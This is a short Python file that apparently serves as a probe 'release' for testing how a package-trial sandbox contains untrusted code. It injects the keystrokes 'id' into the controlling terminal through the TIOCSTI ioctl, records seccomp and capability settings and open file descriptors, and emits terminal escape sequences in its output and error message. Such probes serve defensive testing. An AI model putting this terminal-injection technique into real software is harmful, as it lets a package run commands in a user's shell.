"""A release that looks around while it is tried: what it finds, it notes in its directory, line by line."""

import fcntl
import os
import termios
from pathlib import Path

with open("pried", "a") as note:
    print("tried", file=note)
    try:
        terminal = os.open("/dev/tty", os.O_RDWR)
        print("terminal", os.ttyname(terminal), file=note)
        for character in b"id\n":       # as if the administrator had typed it
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([character]))
        print("typed", file=note)
    except OSError as error:
        print("no terminal:", error.strerror, file=note)
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(("NoNewPrivs", "Seccomp:", "CapBnd")):
            print(*line.split(), file=note)
    for descriptor in os.listdir("/proc/self/fd"):
        try:
            print("open", descriptor, os.readlink(f"/proc/self/fd/{descriptor}"), file=note)
        except OSError:
            pass
os.write(2, b"\033]0;pried\007")
raise ImportError("\033[2J a release to be refused")
